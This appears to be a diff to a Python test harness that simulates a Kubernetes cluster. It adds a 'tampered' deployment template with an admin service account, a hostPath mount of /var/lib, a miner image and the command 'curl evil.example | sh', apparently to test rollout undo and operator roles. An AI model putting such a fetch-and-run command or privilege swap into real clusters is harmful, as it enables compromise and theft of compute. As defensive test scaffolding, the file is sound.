@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import copy
 import re
+from collections.abc import Callable
 from datetime import UTC, datetime, timedelta
 from ipaddress import ip_address
 from pathlib import Path
@@ -32,6 +33,21 @@ DOC = Path(__file__).parents[2] / "docs" / "kubernetes.md"
 PLANTED = "cGxhbnRlZC1pbi1hLXNlY3JldA=="
 IMAGE = "registry.example/checkout:1.4.2"
 RBAC = "rbac.authorization.k8s.io"
+
+
+def tampered(template: Object) -> None:
+    """Another image and account, a command, a variable, and a path of the node."""
+    pod = template["spec"]
+    pod["serviceAccountName"] = "admin"
+    pod["volumes"] = [{"name": "host", "hostPath": {"path": "/var/lib"}}]
+    pod["containers"] = [
+        {
+            "name": "main",
+            "image": "registry.example/miner:1",
+            "command": ["sh", "-c", "curl evil.example | sh"],
+            "env": [{"name": "POOL", "value": PLANTED}],
+        }
+    ]
 
 
 def roles(title: str = "## Least rights") -> list[Object]:
@@ -183,6 +199,8 @@ class KubeWorld(World):
             subjects = subjects[1:]
         if self.action != "kubernetes.role_binding.restore":
             self.place.api.add(binding(self.binding, at, "Role/reader", *subjects))
+        if verb.endswith("_rollout"):
+            self.roll_out(verb)
         if verb == "release":
             self.place.api.add(self.policy())
 
@@ -196,6 +214,31 @@ class KubeWorld(World):
             role["metadata"]["namespace"] = self.namespace
             portals = account(HITL, name.removesuffix("-token"))
             self.place.api.add(role, binding(name, self.namespace, f"Role/{name}", portals))
+
+    def roll_out(self, verb: str) -> None:
+        """Tamper with the deployment (revision 2), and give the operator its role."""
+        first = copy.deepcopy(self.deployment()["spec"]["template"])
+        self.set_template(tampered)
+        if verb == "redo_rollout":
+            self.set_template(lambda template: template.update(first))
+        [role] = roles("### Rollout undo")
+        role["metadata"]["namespace"] = self.namespace
+        name = role["metadata"]["name"]
+        operates = binding(name, self.namespace, f"Role/{name}", account(HITL, "hitl-operate"))
+        self.place.api.add(role, operates)
+
+    def deployment(self) -> Object:
+        found = self.find("deployments", "checkout")
+        assert found is not None
+        return found
+
+    def set_template(self, change: Callable[[Object], object]) -> None:
+        """Change the template of the deployment, as whoever deploys it does."""
+        with self.place.api._lock:
+            new = copy.deepcopy(self.deployment())
+            change(new["spec"]["template"])
+            self.place.api.cluster.replace("deployments", self.namespace, "checkout", new)
+            self.place.api.settle()
 
     def policy(self) -> Object:
         """Return the policy as the portal makes it."""
